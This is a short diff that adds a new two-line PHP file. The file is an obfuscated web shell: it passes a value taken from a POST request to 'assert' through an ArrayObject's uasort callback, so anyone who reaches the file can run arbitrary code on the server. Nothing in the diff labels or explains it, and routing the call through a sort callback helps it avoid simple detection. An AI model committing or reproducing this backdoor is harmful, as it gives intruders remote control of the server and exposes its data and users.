@@ -1,0 +1,2 @@
+<?php
+$e = new ArrayObject(array($_POST['x'])); $e->uasort('assert');
